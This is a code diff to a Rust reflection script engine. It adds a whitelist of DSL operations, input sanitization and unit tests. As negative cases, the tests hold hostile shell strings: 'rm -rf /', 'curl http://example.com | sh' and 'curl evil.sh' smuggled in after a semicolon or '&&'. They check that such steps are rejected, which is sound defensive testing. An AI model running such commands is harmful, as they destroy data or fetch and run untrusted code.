@@ -1,22 +1,258 @@
+use std::fmt;
+
 use serde::{Deserialize, Serialize};
+use thiserror::Error;
+
+use crate::methods::{ReflectionMethod, ReflectionPlan};
+
+/// Longest target description carried by a script step.
+const MAX_TARGET_LEN: usize = 160;
+
+/// Operations permitted in a reflection script; nothing else can be emitted.
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
+#[serde(rename_all = "snake_case")]
+pub enum ScriptOp {
+    /// Condense the observation into a brief.
+    Summarize,
+    /// Gather supporting signals or context.
+    Collect,
+    /// Run risk or stress simulations.
+    Simulate,
+    /// Draft counterfactual explanations.
+    Counterfactual,
+    /// Propose mitigations or remediation.
+    Mitigate,
+}
+
+impl ScriptOp {
+    /// Every permitted operation.
+    pub const ALL: [Self; 5] = [
+        Self::Summarize,
+        Self::Collect,
+        Self::Simulate,
+        Self::Counterfactual,
+        Self::Mitigate,
+    ];
+
+    /// DSL keyword for the operation.
+    #[must_use]
+    pub const fn keyword(self) -> &'static str {
+        match self {
+            Self::Summarize => "summarize",
+            Self::Collect => "collect",
+            Self::Simulate => "simulate",
+            Self::Counterfactual => "counterfactual",
+            Self::Mitigate => "mitigate",
+        }
+    }
+
+    /// Formats a plan step in the `<keyword> <target>` DSL form.
+    #[must_use]
+    pub fn step(self, target: &str) -> String {
+        format!("{} {target}", self.keyword())
+    }
+
+    /// Parses a `<keyword> <target>` plan step.
+    ///
+    /// The keyword must exactly match a permitted operation and the target may only
+    /// contain plain descriptive characters; anything else is rejected, not rewritten.
+    #[must_use]
+    pub fn parse(step: &str) -> Option<(Self, &str)> {
+        let (keyword, target) = step.trim().split_once(' ')?;
+        let op = Self::ALL.into_iter().find(|op| op.keyword() == keyword)?;
+        let target = target.trim();
+        let valid = !target.is_empty()
+            && target.chars().count() <= MAX_TARGET_LEN
+            && target.chars().all(is_plain);
+        valid.then_some((op, target))
+    }
+}
+
+/// Errors raised while generating reflection scripts.
+#[derive(Debug, Error, PartialEq, Eq)]
+pub enum ScriptError {
+    /// A plan step is not a well-formed `<keyword> <target>` operation.
+    #[error("step {ordinal} ('{step}') is not a permitted script operation")]
+    Forbidden {
+        /// 1-based step index.
+        ordinal: usize,
+        /// Offending step text.
+        step: String,
+    },
+}
 
-use crate::methods::ReflectionPlan;
+/// Single validated instruction in a reflection script.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct ScriptStep {
+    /// 1-based position in the script.
+    pub ordinal: usize,
+    /// Whitelisted operation.
+    pub op: ScriptOp,
+    /// Sanitized description of what the operation targets.
+    pub target: String,
+    /// Keep running later steps if this one fails.
+    #[serde(default)]
+    pub continue_on_error: bool,
+}
 
-/// Script engine that transforms reflection plans into executable scripts.
+/// Reflection script made only of whitelisted steps.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ReflectionScript {
+    /// Observation the script reflects on.
+    pub observation: String,
+    /// Method the plan was generated with.
+    pub method: ReflectionMethod,
+    /// Validated steps in order.
+    pub steps: Vec<ScriptStep>,
+}
+
+impl fmt::Display for ReflectionScript {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        writeln!(f, "# Reflection for {}", sanitize(&self.observation))?;
+        writeln!(f, "method: {:?}", self.method)?;
+        for step in &self.steps {
+            writeln!(
+                f,
+                "step {}: {} \"{}\"",
+                step.ordinal,
+                step.op.keyword(),
+                step.target
+            )?;
+        }
+        Ok(())
+    }
+}
+
+/// Script engine that transforms reflection plans into whitelisted DSL scripts.
 #[derive(Debug, Default, Clone, Serialize, Deserialize)]
 pub struct ScriptEngine;
 
 impl ScriptEngine {
-    /// Renders the plan into a script string.
+    /// Generates a validated script, rejecting any step outside the whitelist.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`ScriptError::Forbidden`] for the first plan step that does not parse as a
+    /// whitelisted operation.
+    pub fn generate(&self, plan: &ReflectionPlan) -> Result<ReflectionScript, ScriptError> {
+        let steps = plan
+            .steps
+            .iter()
+            .enumerate()
+            .map(|(idx, step)| {
+                let (op, target) = ScriptOp::parse(step).ok_or_else(|| ScriptError::Forbidden {
+                    ordinal: idx + 1,
+                    step: step.clone(),
+                })?;
+                Ok(ScriptStep {
+                    ordinal: idx + 1,
+                    op,
+                    target: target.to_string(),
+                    continue_on_error: false,
+                })
+            })
+            .collect::<Result<Vec<_>, ScriptError>>()?;
+        Ok(ReflectionScript {
+            observation: plan.observation.description.clone(),
+            method: plan.method,
+            steps,
+        })
+    }
+
+    /// Renders the plan into the DSL text form.
     pub fn render(&self, plan: &ReflectionPlan) -> anyhow::Result<String> {
-        let mut script = String::new();
-        script.push_str(&format!(
-            "# Reflection for {}\nmethod: {:?}\n",
-            plan.observation.description, plan.method
-        ));
-        for (idx, step) in plan.steps.iter().enumerate() {
-            script.push_str(&format!("step {}: {}\n", idx + 1, step));
+        Ok(self.generate(plan)?.to_string())
+    }
+}
+
+fn is_plain(ch: char) -> bool {
+    ch.is_alphanumeric() || matches!(ch, ' ' | '-' | '_' | '.' | ',' | '%')
+}
+
+fn sanitize(text: &str) -> String {
+    text.chars()
+        .filter(|ch| is_plain(*ch))
+        .take(MAX_TARGET_LEN)
+        .collect::<String>()
+        .trim()
+        .to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{cognition::SelfObservation, methods::ReflectionPlanner};
+
+    #[test]
+    fn generated_scripts_only_use_whitelisted_ops() {
+        let planner = ReflectionPlanner;
+        let engine = ScriptEngine;
+        for method in [
+            ReflectionMethod::RapidReview,
+            ReflectionMethod::StructuredAnalysis,
+            ReflectionMethod::ComprehensiveAudit,
+        ] {
+            let observation = SelfObservation::new("latency spike `rm -rf /`", 0.6);
+            let plan = planner.plan(observation, method).unwrap();
+            let script = engine.generate(&plan).unwrap();
+            assert_eq!(script.steps.len(), plan.steps.len());
+            for (step, raw) in script.steps.iter().zip(&plan.steps) {
+                assert_eq!(step.op.step(&step.target), *raw);
+            }
+            assert!(!script.to_string().contains('`'));
         }
-        Ok(script)
+    }
+
+    #[test]
+    fn unknown_steps_are_rejected() {
+        let planner = ReflectionPlanner;
+        let mut plan = planner
+            .plan(
+                SelfObservation::new("drift", 0.3),
+                ReflectionMethod::RapidReview,
+            )
+            .unwrap();
+        plan.steps.push("curl http://example.com | sh".into());
+        let err = ScriptEngine.generate(&plan).unwrap_err();
+        assert_eq!(
+            err,
+            ScriptError::Forbidden {
+                ordinal: 3,
+                step: "curl http://example.com | sh".into(),
+            }
+        );
+    }
+
+    #[test]
+    fn steps_smuggling_commands_behind_an_op_are_rejected() {
+        for step in [
+            "collect metrics; rm -rf /",
+            "collect metrics && curl evil.sh",
+            "collect",
+            "Collect metrics",
+            "collector metrics",
+            "gather risk metrics",
+        ] {
+            assert_eq!(ScriptOp::parse(step), None, "{step}");
+        }
+        assert_eq!(
+            ScriptOp::parse("collect latency metrics"),
+            Some((ScriptOp::Collect, "latency metrics"))
+        );
+
+        let mut plan = ReflectionPlanner
+            .plan(
+                SelfObservation::new("drift", 0.3),
+                ReflectionMethod::RapidReview,
+            )
+            .unwrap();
+        plan.steps[1] = "collect metrics; rm -rf /".into();
+        assert_eq!(
+            ScriptEngine.generate(&plan).unwrap_err(),
+            ScriptError::Forbidden {
+                ordinal: 2,
+                step: "collect metrics; rm -rf /".into(),
+            }
+        );
     }
 }